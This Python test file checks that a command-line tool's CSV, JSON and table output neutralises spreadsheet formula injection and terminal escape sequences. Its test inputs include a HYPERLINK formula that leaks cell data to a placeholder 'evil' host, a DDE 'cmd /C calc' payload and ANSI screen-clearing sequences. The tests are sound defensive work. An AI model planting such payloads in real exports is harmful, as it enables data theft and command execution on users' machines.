"""What a listing does with text that would take over a terminal or a spreadsheet."""

import csv
import io
import json
import re
import time
from collections.abc import Iterator

import click
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agent.cli.main import intramural
from agent.cli.output import show_rows
from agent.io.plain_text import format_cell, printable


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0="]
)
def test_a_cell_is_never_a_formula(start: str, capsys: pytest.CaptureFixture[str]):
    show_rows([{"name": f"{start}cmd()", "mean": -0.5}], {"name": "", "mean": ""}, "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[1] == [f"'{start}cmd()", "-0.5"]


def cells(text: str, delimiter: str) -> list[str]:
    """What a spreadsheet may take for the cells of a table whose cell is `text`: it may ignore quotes or not."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["code", format_cell(text), ""])
    found = re.split(f"[{delimiter}\r\n]", file.getvalue())  # by a program that knows no quotation marks
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        reader = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter, quoting=quoting)
        found += [cell for row in reader for cell in row]
    return found


def is_formula(cell: str) -> bool:
    start = cell.lstrip().lstrip('"').lstrip()
    return start.startswith(("=", "@")) or (start.startswith(("+", "-")) and ("(" in start or "|" in start))


@given(st.text("=+-@;\t\r\n\"'(|a ", max_size=12))
@example('Rest.;=HYPERLINK("http://evil/?"&B2)')
@example("x\n=1+1")
@example("x;-cmd|' /C calc'!A0;")
@example('x;"=1+1;')
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_cell_is_a_formula_where_other_signs_separate_them(delimiter: str, text: str):
    assert [cell for cell in cells(text, delimiter) if is_formula(cell)] == []
    assert format_cell(text).replace("'", "") == text.replace("'", "")


def test_a_list_of_an_answer_stays_as_it_was_written():
    text = "Take:\n- aspirin; 3-4 a day\n- rest\n+ tea\n\n-- a + b = c; no more"
    assert format_cell(text) == text


def test_a_long_text_of_breaks_and_spaces_is_a_cell_at_once():
    for text in ("\n" * 10**6, "; " * 10**6, ";" + '" ' * 10**6, ";-" * 10**6, "\n-" + "a" * 10**6):
        began = time.process_time()
        format_cell(text)
        assert time.process_time() - began < 3


def test_json_escapes_what_takes_over_a_terminal_and_csv_shows_that_it_was_there(capsys: pytest.CaptureFixture[str]):
    text = "\x1b[31mRED\x1b]0;pwn\x07 \x9b31m \u202e A\ud800 Größe \U0001f600"
    show_rows([{"name": text}], {"name": ""}, "json")
    shown = capsys.readouterr().out
    assert json.loads(shown) == [{"name": text}]
    assert not [character for character in shown if character != "\n" and not character.isprintable()]
    assert "Größe \U0001f600" in shown
    show_rows([{"name": text}], {"name": ""}, "csv")
    shown = capsys.readouterr().out
    assert "\ufffd[31mRED\ufffd]0;pwn\ufffd \ufffd31m \u202e A\ufffd Größe \U0001f600" in shown


def test_control_characters_never_reach_the_terminal(capsys: pytest.CaptureFixture[str]):
    show_rows([{"name": "\x1b[2Jgone\x07\u202e"}], {"name": "Name"}, "table", title="[/markup]\x1b")
    shown = capsys.readouterr().out
    assert "[2Jgone" in shown
    assert not [character for character in shown if character != "\n" and not character.isprintable()]
    assert printable("a\ud800b") == "a\ufffdb"


def test_a_table_keeps_its_lines_whole(capsys: pytest.CaptureFixture[str]):
    show_rows([{"name": "word " * 60, "ok": True, "none": None}], {"name": "Name", "ok": "Ok", "none": "None"}, "table")
    (line,) = [line for line in capsys.readouterr().out.splitlines() if "word" in line]
    assert line.count("word") == 60
    assert "yes" in line


def test_the_last_column_of_a_table_folds_to_the_terminal_where_asked(capsys, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("COLUMNS", "60")
    rows = [{"name": "a name that stays on its line", "what": "word " * 40}]
    show_rows(rows, {"name": "Name", "what": "What"}, "table", folds=True)
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= 60
    assert sum(line.count("word") for line in lines) == 40
    assert any("a name that stays on its line" in line for line in lines)


def test_every_first_sentence_of_help_is_whole_in_a_terminal_of_80_columns():
    """And every option says what it is for."""

    def walk(command: click.Command, context: click.Context) -> Iterator[str]:
        if isinstance(command, click.Group):
            for name in command.list_commands(context):
                inner = command.get_command(context, name)
                assert inner is not None
                if inner.get_short_help_str(80 - 6 - max(map(len, command.list_commands(context)))).endswith("..."):
                    yield f"{context.command_path} {name}: its first sentence is too long"
                yield from walk(inner, click.Context(inner, parent=context, info_name=name))
        for option in command.params:
            if isinstance(option, click.Option) and not option.help:
                yield f"{context.command_path}: {option.name} has no help"

    assert list(walk(intramural, click.Context(intramural, info_name="intramural"))) == []
